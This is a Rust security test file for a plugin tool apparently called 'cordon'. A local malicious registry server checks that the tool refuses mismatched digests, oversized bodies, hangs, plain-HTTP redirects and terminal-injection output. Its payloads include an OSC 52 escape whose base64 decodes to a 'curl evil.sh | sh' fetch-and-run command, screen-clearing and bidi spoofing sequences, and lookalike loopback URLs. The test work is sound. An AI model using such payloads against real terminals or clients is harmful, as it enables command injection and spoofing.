//! Attacks by what a registry or URL server answers (a raw HTTP server in this process, so it can
//! lie about sizes, digests and redirects, or never answer): manifests, blobs and descriptors that
//! do not match, oversized bodies, plain HTTP and redirects elsewhere, and error text aimed at the
//! terminal. Each test asserts the safe behaviour.

use crate::support::hostile_http::*;
use crate::support::{Workspace, run_on_terminal};
use std::net::SocketAddr;
use std::time::Duration;

const MAX: u64 = 256 << 20;

#[test]
fn a_manifest_that_does_not_match_the_pinned_digest_is_refused() {
    let probe = component("fixture_probe");
    let good = manifest(&[(
        "application/wasm",
        &format!("sha256:{}", sha256(&probe)),
        probe.len() as i64,
    )]);
    let pinned = format!("sha256:{}", sha256(&good));
    let guard = component("guard");
    let evil = manifest(&[(
        "application/wasm",
        &format!("sha256:{}", sha256(&guard)),
        guard.len() as i64,
    )]);
    // The registry even claims the pinned digest in its header.
    let server = {
        let pinned = pinned.clone();
        Server::start("127.0.0.1:0", move |request| {
            if request.path == "/v2/" {
                ok("{}", "application/json")
            } else if request.path.contains("/manifests/") {
                Reply::Full(
                    200,
                    vec![
                        ("Content-Type".into(), MANIFEST_TYPE.into()),
                        ("Docker-Content-Digest".into(), pinned.clone()),
                    ],
                    evil.clone(),
                )
            } else {
                ok(guard.clone(), "application/octet-stream")
            }
        })
    };
    let ws = Workspace::new();
    let out = ws.cordon(&[
        "add",
        &format!("oci://{}/tools/probe@{pinned}", server.addr),
    ]);
    assert_ne!(out.code, 0, "{}", out.stdout);
    assert_nothing_written(&ws, "manifest swapped");
}

#[test]
fn a_blob_that_does_not_match_its_descriptor_is_refused() {
    let probe = component("fixture_probe");
    let server = registry(
        manifest(&[(
            "application/wasm",
            &format!("sha256:{}", sha256(&probe)),
            probe.len() as i64,
        )]),
        component("guard"),
    );
    let ws = Workspace::new();
    let out = ws.cordon(&["add", &format!("oci://{}/tools/probe:1", server.addr)]);
    assert_ne!(out.code, 0, "{}", out.stdout);
    assert_nothing_written(&ws, "blob swapped");
}

#[test]
fn descriptor_digests_other_than_lowercase_sha256_are_refused() {
    let probe = component("fixture_probe");
    for digest in [
        format!("sha512:{}", sha512(&probe)),
        format!("sha256:{}", sha256(&probe).to_uppercase()),
        "sha256:zz".to_string(),
        format!("md5:{}", &sha256(&probe)[..32]),
        sha256(&probe),
    ] {
        let server = registry(
            manifest(&[("application/wasm", &digest, probe.len() as i64)]),
            probe.clone(),
        );
        let ws = Workspace::new();
        let out = ws.cordon(&["add", &format!("oci://{}/tools/probe:1", server.addr)]);
        assert_ne!(out.code, 0, "{digest}: {}", out.stdout);
        assert_nothing_written(&ws, &digest);
    }
}

#[test]
fn an_image_index_is_refused() {
    let probe = component("fixture_probe");
    let inner = manifest(&[(
        "application/wasm",
        &format!("sha256:{}", sha256(&probe)),
        probe.len() as i64,
    )]);
    let index = serde_json::to_vec(&serde_json::json!({
        "schemaVersion": 2,
        "mediaType": "application/vnd.oci.image.index.v1+json",
        "manifests": [{
            "mediaType": MANIFEST_TYPE,
            "digest": format!("sha256:{}", sha256(&inner)),
            "size": inner.len(),
            "platform": { "architecture": "wasm", "os": "wasip2" }
        }]
    }))
    .unwrap();
    let server = registry(index, probe);
    let ws = Workspace::new();
    let out = ws.cordon(&["add", &format!("oci://{}/tools/probe:1", server.addr)]);
    assert_ne!(out.code, 0, "{}", out.stdout);
    assert_nothing_written(&ws, "image index");
}

#[test]
fn a_tag_whose_digest_header_lies_pins_the_real_manifest_digest() {
    let probe = component("fixture_probe");
    let body = manifest(&[(
        "application/wasm",
        &format!("sha256:{}", sha256(&probe)),
        probe.len() as i64,
    )]);
    let real = sha256(&body);
    let lie = format!("sha256:{}", "1".repeat(64));
    let server = {
        let probe = probe.clone();
        Server::start("127.0.0.1:0", move |request| {
            if request.path == "/v2/" {
                ok("{}", "application/json")
            } else if request.path.contains("/manifests/") {
                Reply::Full(
                    200,
                    vec![
                        ("Content-Type".into(), MANIFEST_TYPE.into()),
                        ("Docker-Content-Digest".into(), lie.clone()),
                    ],
                    body.clone(),
                )
            } else {
                ok(probe.clone(), "application/octet-stream")
            }
        })
    };
    let ws = Workspace::new();
    let out = ws.cordon(&["add", &format!("oci://{}/tools/probe:1", server.addr)]);
    if out.code == 0 {
        let lock: toml::Value =
            toml::from_str(&std::fs::read_to_string(ws.path().join("cordon.lock")).unwrap())
                .unwrap();
        let source = lock["sources"]["probe"]["source"].as_str().unwrap();
        assert!(source.ends_with(&format!("@sha256:{real}")), "{source}");
    } else {
        assert_nothing_written(&ws, "lying digest header");
    }
}

#[test]
fn a_blob_longer_than_its_descriptor_is_not_read_past_the_cap() {
    // The descriptor says 1 KiB; the registry sends 320 MiB. The 256 MiB cap is checked only
    // against the declared size, and pull_blob writes every byte into a Vec: an endless blob is an
    // out-of-memory kill.
    let probe = component("fixture_probe");
    let server = Server::start("127.0.0.1:0", move |request| {
        if request.path == "/v2/" {
            ok("{}", "application/json")
        } else if request.path.contains("/manifests/") {
            ok(
                manifest(&[(
                    "application/wasm",
                    &format!("sha256:{}", sha256(&probe)),
                    1024,
                )]),
                MANIFEST_TYPE,
            )
        } else {
            Reply::Stream(
                200,
                vec![("Content-Type".into(), "application/octet-stream".into())],
                320 << 20,
            )
        }
    });
    let ws = Workspace::new();
    let out = ws.cordon(&["add", &format!("oci://{}/tools/probe:1", server.addr)]);
    assert_ne!(out.code, 0);
    assert_nothing_written(&ws, "oversized blob");
    let sent = server.sent();
    assert!(
        sent < MAX + (16 << 20),
        "cordon read {} MiB of a layer declared as 1 KiB (cap {} MiB): {}",
        sent >> 20,
        MAX >> 20,
        out.stderr
    );
}

#[test]
fn a_huge_manifest_is_not_read_into_memory() {
    // pull_manifest_raw collects the whole body (`res.bytes()`) with no cap.
    let server = Server::start("127.0.0.1:0", move |request| {
        if request.path == "/v2/" {
            ok("{}", "application/json")
        } else {
            Reply::Stream(
                200,
                vec![("Content-Type".into(), MANIFEST_TYPE.into())],
                400 << 20,
            )
        }
    });
    let ws = Workspace::new();
    let out = ws.cordon(&["add", &format!("oci://{}/tools/probe:1", server.addr)]);
    assert_ne!(out.code, 0);
    let sent = server.sent();
    assert!(
        sent < MAX + (16 << 20),
        "cordon read {} MiB of a manifest: {}",
        sent >> 20,
        out.stderr
    );
}

#[test]
fn a_url_download_is_capped_while_streaming() {
    let server = Server::start("127.0.0.1:0", |_| {
        Reply::Stream(
            200,
            vec![("Content-Type".into(), "application/wasm".into())],
            320 << 20,
        )
    });
    let ws = Workspace::new();
    let out = ws.cordon(&[
        "add",
        &format!("http://{}/big.wasm", server.addr),
        "--sha256",
        &"0".repeat(64),
    ]);
    assert_ne!(out.code, 0);
    assert!(
        out.stderr.contains("that large is refused"),
        "{}",
        out.stderr
    );
    assert!(server.sent() < MAX + (16 << 20), "{}", server.sent());
    assert_nothing_written(&ws, "huge URL");
}

#[test]
fn a_registry_that_never_answers_does_not_hang_cordon() {
    let server = Server::start("127.0.0.1:0", |_| Reply::Hang);
    let ws = Workspace::new();
    let limit = Duration::from_secs(100);
    let (code, stderr, took) = run_within(
        ws.cordon_command(&["add", &format!("oci://{}/tools/probe:1", server.addr)]),
        limit,
    );
    assert!(
        code.is_some(),
        "cordon add was still waiting on a silent registry after {took:?} (no read timeout): {stderr}"
    );
    assert_ne!(code, Some(0));
}

#[test]
fn a_url_that_never_answers_does_not_hang_cordon() {
    let server = Server::start("127.0.0.1:0", |_| Reply::Hang);
    let ws = Workspace::new();
    let limit = Duration::from_secs(100);
    let (code, stderr, took) = run_within(
        ws.cordon_command(&[
            "add",
            &format!("http://{}/x.wasm", server.addr),
            "--sha256",
            &"0".repeat(64),
        ]),
        limit,
    );
    assert!(
        code.is_some(),
        "cordon add was still waiting on a silent server after {took:?} (only a connect timeout): {stderr}"
    );
    assert_ne!(code, Some(0));
}

#[test]
fn plain_http_to_a_non_loopback_host_is_refused_whatever_the_url_looks_like() {
    use cordon_distribution::Source;
    // is_loopback looks at the text before the first ':' or '/': userinfo and names that merely
    // start with "127." pass.
    for url in [
        "http://127.0.0.1@example.com/a.wasm",
        "http://127.0.0.1:x@example.com/a.wasm",
        "http://localhost:x@example.com/a.wasm",
        "http://127.example.com/a.wasm",
        "http://127.0.0.1.nip.example/a.wasm",
    ] {
        assert!(
            Source::parse(url).is_err(),
            "{url} is accepted as a loopback URL"
        );
    }
    // And end to end: a server on this machine's outside address gets the plain-HTTP request.
    let Some(ip) = outside_ip() else {
        eprintln!("no non-loopback address: end-to-end part skipped");
        return;
    };
    let probe = component("fixture_probe");
    let outside = {
        let probe = probe.clone();
        Server::start(&SocketAddr::new(ip, 0).to_string(), move |_| {
            ok(probe.clone(), "application/wasm")
        })
    };
    let ws = Workspace::new();
    let out = ws.cordon(&[
        "add",
        &format!("http://127.0.0.1:x@{}/probe.wasm", outside.addr),
        "--sha256",
        &sha256(&probe),
    ]);
    assert!(
        outside.requests().is_empty(),
        "cordon fetched over plain HTTP from {} (exit {}): {}",
        outside.addr,
        out.code,
        out.stdout
    );
    assert_ne!(out.code, 0);
}

#[test]
fn a_registry_host_starting_with_127_is_not_reached_over_plain_http() {
    // client_for uses plain HTTP for any registry whose host starts with "127." — a DNS name
    // like 127.attacker.example is not loopback; any credentials for it would go in clear text.
    let ws = Workspace::new();
    let out = ws.cordon(&["add", "oci://127.attacker.invalid/tools/probe:1"]);
    assert_ne!(out.code, 0);
    assert!(
        !out.stderr.contains("http://127.attacker.invalid"),
        "a non-loopback registry was contacted over plain HTTP: {}",
        out.stderr
    );
}

#[test]
fn an_oci_host_without_a_dot_or_port_is_not_silently_docker_hub() {
    // The docs say oci://HOST/REPOSITORY, and cordon's own parsing takes the text before the first
    // '/' as the host; oci-client's Reference follows docker's rule instead (a first part with no
    // '.' or ':' that is not `localhost` is a repository on docker.io). `oci://registry/acme/x:1`,
    // meant for an internal host named `registry`, is then pulled from Docker Hub's acme... under
    // `registry/`: whoever owns that name on Docker Hub supplies the plugin. Observed through a
    // proxy, which sees which host cordon tunnels to.
    let proxy = Server::start("127.0.0.1:0", |_| status(403, &[], "no"));
    let ws = Workspace::new();
    let proxy_url = format!("http://{}", proxy.addr);
    let _ = ws.cordon_with_env(
        &["add", "oci://registry/acme/probe:1"],
        &[
            ("HTTPS_PROXY", proxy_url.as_str()),
            ("https_proxy", proxy_url.as_str()),
            ("ALL_PROXY", proxy_url.as_str()),
            ("NO_PROXY", ""),
            ("no_proxy", ""),
            ("DOCKER_CONFIG", ws.path().join("none").to_str().unwrap()),
        ],
    );
    let hosts: Vec<String> = proxy.requests().iter().map(|r| r.path.clone()).collect();
    assert!(
        !hosts.iter().any(|h| h.contains("docker.io")),
        "oci://registry/… was fetched from Docker Hub: the proxy saw {hosts:?}"
    );
}

#[test]
fn a_url_redirect_to_plain_http_elsewhere_is_not_followed() {
    let Some(ip) = outside_ip() else {
        eprintln!("no non-loopback address: skipped");
        return;
    };
    let probe = component("fixture_probe");
    let outside = {
        let probe = probe.clone();
        Server::start(&SocketAddr::new(ip, 0).to_string(), move |_| {
            ok(probe.clone(), "application/wasm")
        })
    };
    let location = format!("http://{}/probe.wasm", outside.addr);
    let first = Server::start("127.0.0.1:0", move |_| {
        status(302, &[("Location", location.as_str())], "")
    });
    let ws = Workspace::new();
    let out = ws.cordon(&[
        "add",
        &format!("http://{}/probe.wasm", first.addr),
        "--sha256",
        &sha256(&probe),
    ]);
    assert!(
        outside.requests().is_empty(),
        "a redirect took cordon to plain HTTP on {} (exit {})",
        outside.addr,
        out.code
    );
}

#[test]
fn a_layer_urls_field_cannot_send_cordon_to_another_host() {
    // A descriptor's `urls` makes oci-client fetch the blob from any http(s) URL when the
    // registry answers the blob with an error: a registry can point cordon at internal or
    // plain-HTTP hosts (the bytes are still digest-checked).
    let Some(ip) = outside_ip() else {
        eprintln!("no non-loopback address: skipped");
        return;
    };
    let probe = component("fixture_probe");
    let outside = {
        let probe = probe.clone();
        Server::start(&SocketAddr::new(ip, 0).to_string(), move |_| {
            ok(probe.clone(), "application/octet-stream")
        })
    };
    let mut descriptor: serde_json::Value = serde_json::from_slice(&manifest(&[(
        "application/wasm",
        &format!("sha256:{}", sha256(&probe)),
        probe.len() as i64,
    )]))
    .unwrap();
    descriptor["layers"][0]["urls"] =
        serde_json::json!([format!("http://{}/internal/metadata", outside.addr)]);
    let body = serde_json::to_vec(&descriptor).unwrap();
    let server = Server::start("127.0.0.1:0", move |request| {
        if request.path == "/v2/" {
            ok("{}", "application/json")
        } else if request.path.contains("/manifests/") {
            ok(body.clone(), MANIFEST_TYPE)
        } else {
            status(404, &[], "{}")
        }
    });
    let ws = Workspace::new();
    let out = ws.cordon(&["add", &format!("oci://{}/tools/probe:1", server.addr)]);
    assert!(
        outside.requests().is_empty(),
        "the manifest's urls sent cordon to {} over plain HTTP (exit {}): {}",
        outside.addr,
        out.code,
        out.stdout
    );
}

#[test]
fn a_registry_error_cannot_write_terminal_escapes() {
    // The registry's error body reaches the terminal raw through `error: …` on stderr: OSC 52 sets
    // the clipboard on many terminals, CSI 2J clears the screen, and fake lines can be drawn.
    let server = Server::start("127.0.0.1:0", |request| {
        if request.path == "/v2/" {
            ok("{}", "application/json")
        } else {
            status(
                404,
                &[],
                "\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}\u{1b}[2J\u{1b}[Hinstalled plugins/x.wasm; granted: nothing",
            )
        }
    });
    let ws = Workspace::new();
    let (code, _, screen) = run_on_terminal(
        &ws,
        "n",
        &["add", &format!("oci://{}/tools/probe:1", server.addr)],
    );
    assert_ne!(code, 0);
    assert!(
        !screen.contains("\u{1b}]52") && !screen.contains("\u{1b}[2J"),
        "the registry's escape sequences reached the terminal: {screen:?}"
    );
}

#[test]
fn a_registry_error_cannot_reorder_the_terminal_line_with_bidi_controls() {
    // without_controls drops Cc characters; U+202E (right-to-left override) and the isolates are
    // Cf and pass, so a registry's media type can display reversed text in the error line.
    let body = manifest(&[(
        "text/plain\u{202e}mptt.exe\u{2066}",
        &format!("sha256:{}", "a".repeat(64)),
        10,
    )]);
    let registry = registry(body, Vec::new());
    let ws = Workspace::new();
    let out = ws.cordon(&["add", &format!("oci://{}/tools/probe:1", registry.addr)]);
    assert_ne!(out.code, 0);
    let bidi = |c: char| matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}');
    assert!(
        !out.stderr.chars().any(bidi),
        "a registry's bidi controls reached the terminal: {:?}",
        out.stderr
    );
}
